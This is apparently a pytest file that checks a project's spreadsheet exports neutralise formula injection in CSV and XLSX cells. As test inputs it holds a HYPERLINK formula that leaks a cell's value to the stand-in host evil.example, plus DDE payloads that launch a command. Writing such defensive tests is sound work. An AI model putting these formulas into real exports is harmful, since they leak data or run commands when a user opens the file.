"""Issue 13, finding 3: a value someone typed never reaches a spreadsheet export as a live formula."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from hopnhat.core import exports

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Xem chi tiết")'


@pytest.mark.parametrize("value", [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                                   "\t=1+1", "\r=1+1", "\uff1d1+1"])
def test_dangerous_text_is_neutralised_in_csv_and_restored_on_read_back(value):
    assert exports.is_dangerous(value)
    assert exports.safe_cell(value) == "'" + value
    assert exports.restore_cell(exports.safe_cell(value)) == value


@pytest.mark.parametrize("value", ["-12", "+84", "-1.5", "3,5", "1e6", "", "Nguyễn Văn An", "a=b", 12, -3, -1.5,
                                   None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert exports.safe_cell(value) == value


def test_csv_writers_neutralise_every_cell():
    out = io.StringIO()
    writer = exports.csv_dict_writer(out, ["a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": EVIL, "b": -4})
    exports.csv_writer(out, lineterminator="\n").writerow(["@x", "-7"])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["a", "b"], ["'" + EVIL, "-4"], ["'@x", "-7"]]


def test_xlsx_cells_are_text_not_formulas_and_read_back_unchanged(tmp_path):
    book = Workbook()
    sheet = book.active
    exports.append_row(sheet, ["mã", "lý do", "số"])
    exports.append_row(sheet, ["x", EVIL, -5])
    path = tmp_path / "out.xlsx"
    book.save(path)
    cells = load_workbook(path)["Sheet"]
    assert cells["B2"].data_type == "s" and cells["B2"].value == EVIL and cells["B2"].quotePrefix
    assert cells["C2"].data_type == "n" and cells["C2"].value == -5
    assert [c.value for c in cells[1]] == ["mã", "lý do", "số"]
